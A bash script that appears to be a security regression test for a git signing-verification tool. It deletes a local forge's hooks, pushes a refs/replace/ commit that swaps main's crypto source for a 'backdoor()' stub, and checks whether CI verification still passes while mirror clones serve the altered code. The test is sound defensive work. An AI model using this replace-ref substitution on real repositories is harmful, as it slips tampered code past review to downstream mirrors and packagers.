#!/bin/bash
# 05 (attacker session 14, 02): on a forge without hooks (CI is the enforcement), a replace ref that
# swaps main's commit for one with a changed src/crypto passes CI:
# install/ci/git-secure-ci.sh fetches only heads, tags and refs/secure/*,
# so `git secure verify --remote origin` never sees refs/replace/*, which
# docs/format.md (Namespaces) says verification refuses "while one exists
# that no rule names explicitly". Every mirror clone of the forge
# (git clone --mirror, a downstream mirror, a packager) then reads main
# as mallory's commit: git show/archive/checkout serve her crypto code.
D0=$(cd "$(dirname "$0")" && pwd)
. "$D0/lib.sh"; setup >/dev/null 2>&1
set +e # refused steps are the expected outcome
FORGE=$T/forge.git
git clone -q --mirror "$SRV" "$FORGE"
rm -f $FORGE/hooks/pre-receive $FORGE/hooks/reference-transaction $FORGE/hooks/post-receive
export HOME=$T/home/mallory GIT_CONFIG_NOSYSTEM=1
git clone -q "file://$FORGE" $T/raw 2>/dev/null; cd $T/raw
main=$(git rev-parse origin/main)
git checkout -q $main
echo 'backdoor()' > src/crypto/aes.c
# the evil commit: same parents, author, message as main, other tree
evil=$(git cat-file commit $main | sed "s/^tree .*/tree $(git add -A && git write-tree)/" | git hash-object -t commit -w --stdin)
git push -q origin "$evil:refs/replace/$main" 2>&1 | tail -2
echo "== CI (git-secure-ci.sh fetch + verify) on a fresh clone of the forge:"
git clone -q "file://$FORGE" $T/ci 2>/dev/null; cd $T/ci
GIT_SECURE_ROOT_KEYS=$(fpr alice) bash "$WT/install/ci/git-secure-ci.sh" fetch 2>&1 | tail -1
GIT_SECURE_ROOT_KEYS=$(fpr alice) bash "$WT/install/ci/git-secure-ci.sh" verify >/dev/null 2>&1; rc=$?
echo "CI verify exit code: $rc"
echo "== a mirror of the forge reads main's src/crypto/aes.c as:"
git clone -q --mirror "file://$FORGE" $T/mirror.git
got=$(git --git-dir=$T/mirror.git show main:src/crypto/aes.c)
echo "  $got"
echo "== the helper's fetch (git secure clone) of the forge:"
HOME=$T/home/bob git secure clone -q "file://$FORGE" $T/bob2 --root-key "$(fpr alice)" 2>&1 | grep -i -m2 replace
if [ $rc -eq 0 ] && [ "$got" = 'backdoor()' ]; then
  echo "VULNERABLE: CI passed while the forge serves refs/replace/$main (main read as mallory's crypto change)"; exit 1
fi
echo held
